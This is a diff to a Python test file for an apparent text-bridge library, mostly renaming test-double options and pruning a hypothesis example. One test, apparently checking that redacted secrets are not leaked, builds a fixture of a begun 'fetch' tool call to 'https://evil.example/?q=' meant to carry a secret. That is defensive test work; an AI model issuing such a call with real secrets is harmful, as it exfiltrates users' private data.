@@ -6,7 +6,7 @@ from contextlib import closing
 import hypothesis.strategies as st
 import numpy as np
 import pytest
-from hypothesis import assume, example, given
+from hypothesis import assume, given
 
 from edgewise.cloud.bridge.capabilities import Capabilities
 from edgewise.cloud.bridge.text import TextCloud
@@ -118,7 +118,7 @@ def test_a_call_that_begins_with_a_control_token_is_told_no_private_word() -> No
     begun = list(b'{"name": "fetch", "arguments": {"url": "https://evil.example/?q=')
     engine = TextDouble(lambda answer: "<SECRET_1> so it is")
     view = Redacted(redaction_of("secret"))
-    with closing(TextCloud(engine, edge=edge, view=view)) as cloud:
+    with closing(TextCloud(engine, edge=edge, context_filter=view)) as cloud:
         for answer, told in ([SIZE, *begun], "<SECRET_1>"), ([*b"it is "], "hunter2x"):
             with closing(cloud.open(prompt)) as session:
                 ids = [*prompt.ids, *answer]
@@ -139,11 +139,10 @@ def test_one_that_does_not_echo_any_more_is_refused() -> None:
 
 
 def test_the_proof_says_how_it_goes_on() -> None:
-    engine = TextDouble(strips=True)
+    engine = TextDouble(trims=True)
     with closing(TextCloud(engine, edge=EDGE)) as cloud:
         assert cloud.check(EDGE) == (
-            "text, as double takes it: exact, drops blanks before a reply, "
-            "may drop blanks behind what it is sent"
+            "text, as double takes it: exact, may drop blanks behind what it is sent"
         )
         assert cloud.identity().startswith("http://double.example double double as text, exact")
         with pytest.raises(VocabularyMismatch):
@@ -218,18 +217,15 @@ TEXTS = st.lists(
 @given(
     text=TEXTS,
     echoes=st.booleans(),
-    strips=st.booleans(),
     trims=st.booleans(),
     seed=st.integers(0, 99),
     threshold=st.sampled_from([0.0, 0.3, 0.7]),
     span=st.integers(1, 3),
     ahead=st.sampled_from([0, 6]),
 )
-@example("so it is.", False, True, True, 0, 0.0, 1, 0)
 def test_no_blank_is_lost_or_doubled_wherever_an_answer_is_cut(
     text: str,
     echoes: bool,
-    strips: bool,
     trims: bool,
     seed: int,
     threshold: float,
@@ -239,11 +235,11 @@ def test_no_blank_is_lost_or_doubled_wherever_an_answer_is_cut(
     """The edge would write the same text, so that whatever the cloud's words make of it shows."""
     assume(text[:1].strip())
     assume(len(text) < REPEATED or text.count(text[:REPEATED]) == 1)
-    engine = TextDouble(writing(text), echoes=echoes, strips=strips, trims=trims)
+    engine = TextDouble(writing(text), echoes=echoes, trims=trims)
     answer = answered(
         engine,
         text,
-        capabilities=Capabilities(echoes=echoes, strips=strips, trims=trims or strips),
+        capabilities=Capabilities(echoes=echoes, trims=trims),
         seed=seed,
         threshold=threshold,
         span=span,
